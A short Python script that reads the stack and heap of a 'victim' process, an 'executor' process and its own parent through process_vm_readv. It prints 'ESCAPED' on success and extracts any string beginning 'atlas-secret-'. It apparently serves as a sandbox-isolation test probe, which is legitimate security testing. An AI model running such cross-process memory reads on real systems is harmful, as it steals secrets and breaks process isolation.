"""Copies memory out of other processes with process_vm_readv. Success: the victim's secret is printed."""

import ctypes
import json
import os

libc = ctypes.CDLL(None, use_errno=True)
READV = {"x86_64": 310, "aarch64": 270}[os.uname().machine]
targets = json.loads(input())
for pid in (targets["victim"], os.getppid(), targets["executor"]):
    try:
        with open(f"/proc/{pid}/maps") as file:
            places = [line.split()[0].split("-") for line in file if "[stack]" in line or "[heap]" in line]
    except OSError as error:
        print("refused:", error)
        places = [("7ffffffde000", "7ffffffff000")]
    for first, last in places:
        start, size = int(first, 16), int(last, 16) - int(first, 16)
        found = ctypes.create_string_buffer(size)
        local = (ctypes.c_size_t * 2)(ctypes.addressof(found), size)
        remote = (ctypes.c_size_t * 2)(start, size)
        if libc.syscall(READV, pid, local, 1, remote, 1, 0) > 0:
            print("ESCAPED: read", pid)
            at = found.raw.find(b"atlas-secret-")
            if at >= 0:
                print(found.raw[at : at + 64].split(b"\0")[0].decode())
print("done")
